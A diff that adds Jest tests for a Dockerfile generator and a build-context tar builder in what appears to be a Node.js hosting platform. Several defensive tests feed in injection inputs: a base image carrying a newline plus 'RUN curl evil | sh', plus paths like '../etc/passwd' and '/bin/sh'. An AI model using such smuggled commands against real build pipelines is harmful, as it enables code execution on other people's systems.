@@ -1,0 +1,151 @@
+import { describe, expect, it } from '@jest/globals';
+import { Readable } from 'node:stream';
+import {
+  buildContextTar,
+  DOCKERIGNORE,
+  enginesWarning,
+  generateDockerfile,
+  type DockerfileInput,
+} from './dockerfile.js';
+import { collect, listTar, tarGz } from './testing/archive-fixtures.js';
+
+const base: DockerfileInput = {
+  baseImage: 'berth/node-runtime:local',
+  hasLockfile: true,
+  start: { kind: 'script' },
+  runtimeNodeVersion: '20.20.2',
+};
+const lines = (input: Partial<DockerfileInput> = {}) =>
+  generateDockerfile({ ...base, ...input }).dockerfile.split('\n');
+const indexOf = (all: string[], pattern: RegExp) => all.findIndex((line) => pattern.test(line));
+
+describe('generateDockerfile', () => {
+  it('installs dependencies in their own layer before copying the rest, so code-only changes reuse it', () => {
+    const all = lines();
+    const manifests = indexOf(all, /^COPY --chown=10001:10001 package\.json /);
+    const install = indexOf(all, /^RUN npm ci /);
+    const rest = indexOf(all, /^COPY --chown=10001:10001 \. \.$/);
+    expect(manifests).toBeGreaterThan(-1);
+    expect(install).toBeGreaterThan(manifests);
+    expect(rest).toBeGreaterThan(install);
+    expect(all.filter((line) => line.startsWith('COPY'))).toHaveLength(2);
+  });
+
+  it('uses npm ci with the lockfile when there is one', () => {
+    const all = lines({ hasLockfile: true });
+    expect(all[indexOf(all, /^COPY .* \.\/$/)]).toContain('package-lock.json* npm-shrinkwrap.json*');
+    expect(all[indexOf(all, /^RUN /)]).toContain('npm ci --omit=dev');
+    expect(all.join('\n')).not.toContain('npm install');
+  });
+
+  it('uses npm install without a lockfile', () => {
+    const all = lines({ hasLockfile: false });
+    expect(all[indexOf(all, /^COPY .* \.\/$/)]).not.toContain('package-lock.json');
+    expect(all[indexOf(all, /^RUN /)]).toContain('npm install --omit=dev --no-audit --no-fund');
+    expect(all.join('\n')).not.toContain('npm ci');
+  });
+
+  it('runs as uid 10001 in /app with the production environment and the PORT contract', () => {
+    const text = generateDockerfile(base).dockerfile;
+    expect(text).toMatch(/^FROM berth\/node-runtime:local$/m);
+    expect(text).toMatch(/^WORKDIR \/app$/m);
+    expect(text).toMatch(/^USER 10001$/m);
+    for (const env of [
+      'NODE_ENV=production',
+      'PORT=8080',
+      'npm_config_cache=/tmp/.npm',
+      'HOME=/tmp',
+      'NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt',
+    ]) {
+      expect(text).toContain(env);
+    }
+    // USER comes before any RUN so node_modules belong to the app user; no chown binary is needed.
+    const all = text.split('\n');
+    expect(indexOf(all, /^USER 10001$/)).toBeLessThan(indexOf(all, /^RUN /));
+    expect(text).not.toMatch(/^RUN .*chown/m);
+    expect(
+      all.filter((line) => line.startsWith('COPY')).every((line) => line.includes('--chown=10001:10001')),
+    ).toBe(true);
+  });
+
+  it('starts with npm start when there is a start script', () => {
+    expect(lines({ start: { kind: 'script' } })).toContain('CMD ["npm","start"]');
+  });
+
+  it('starts with node <main> otherwise', () => {
+    expect(lines({ start: { kind: 'main', main: './dist/server.js' } })).toContain(
+      'CMD ["node","dist/server.js"]',
+    );
+  });
+
+  it.each([['../etc/passwd'], ['/bin/sh'], ['--require=/x.js'], ['a\nRUN evil']])(
+    'refuses an unsafe main: %j',
+    (main) => {
+      expect(() => generateDockerfile({ ...base, start: { kind: 'main', main } })).toThrow('unsafe main');
+    },
+  );
+
+  it('refuses a base image that could inject instructions', () => {
+    expect(() => generateDockerfile({ ...base, baseImage: 'node:20\nRUN curl evil | sh' })).toThrow(
+      'invalid base image',
+    );
+  });
+
+  it('is deterministic, so the cache keys of unchanged layers stay the same', () => {
+    expect(generateDockerfile(base)).toEqual(generateDockerfile(base));
+  });
+
+  it('warns (never fails) when engines.node excludes the runtime version', () => {
+    expect(generateDockerfile({ ...base, nodeEnginesRange: '>=22' }).warnings).toEqual([
+      expect.stringContaining("does not include the runtime's Node.js 20.20.2"),
+    ]);
+    expect(generateDockerfile({ ...base, nodeEnginesRange: '^20.19 || >=22' }).warnings).toEqual([]);
+    expect(generateDockerfile(base).warnings).toEqual([]);
+  });
+
+  it('warns about an engines.node that is not a range', () => {
+    expect(enginesWarning('banana', '20.20.2')).toContain('not a valid version range');
+    expect(enginesWarning('20.x', '20.20.2')).toBeUndefined();
+    expect(enginesWarning('>=18 <20', '20.20.2')).toContain('does not include');
+  });
+});
+
+describe('buildContextTar', () => {
+  const sourceEntries = [
+    { name: 'package.json', body: '{}' },
+    { name: 'lib/', type: 'directory' as const },
+    { name: 'lib/app.js', body: 'app' },
+    { name: 'bin', type: 'symlink' as const, linkname: 'lib' },
+    { name: 'Dockerfile', body: 'FROM evil' },
+    { name: '.dockerignore', body: 'package.json' },
+  ];
+
+  it.each([
+    ['a stored tar.gz', true],
+    ['a plain tar', false],
+  ])('puts the generated Dockerfile and .dockerignore before the sources of %s', async (_label, gzip) => {
+    const { dockerfile } = generateDockerfile(base);
+    const normalizedTar = Readable.from([await tarGz(sourceEntries, { gzip })]);
+    const listed = await listTar(await collect(buildContextTar({ normalizedTar, dockerfile })));
+    // The tenant's own Dockerfile and .dockerignore are left out: ours cannot be replaced.
+    expect(listed.map((entry) => entry.name)).toEqual([
+      'Dockerfile',
+      '.dockerignore',
+      'package.json',
+      'lib/',
+      'lib/app.js',
+      'bin',
+    ]);
+    expect(listed[0].body).toBe(dockerfile);
+    expect(listed[1].body).toBe(DOCKERIGNORE);
+    expect(listed.find((entry) => entry.name === 'lib/app.js')?.body).toBe('app');
+    expect(listed.find((entry) => entry.name === 'bin')).toMatchObject({ type: 'symlink', linkname: 'lib' });
+    expect(listed.every((entry) => entry.uid === 0 && entry.gid === 0)).toBe(true);
+  });
+
+  it('fails the stream when the stored source is corrupt', async () => {
+    const gz = await tarGz(sourceEntries);
+    const normalizedTar = Readable.from([gz.subarray(0, gz.length - 30)]);
+    await expect(collect(buildContextTar({ normalizedTar, dockerfile: 'FROM x' }))).rejects.toThrow();
+  });
+});
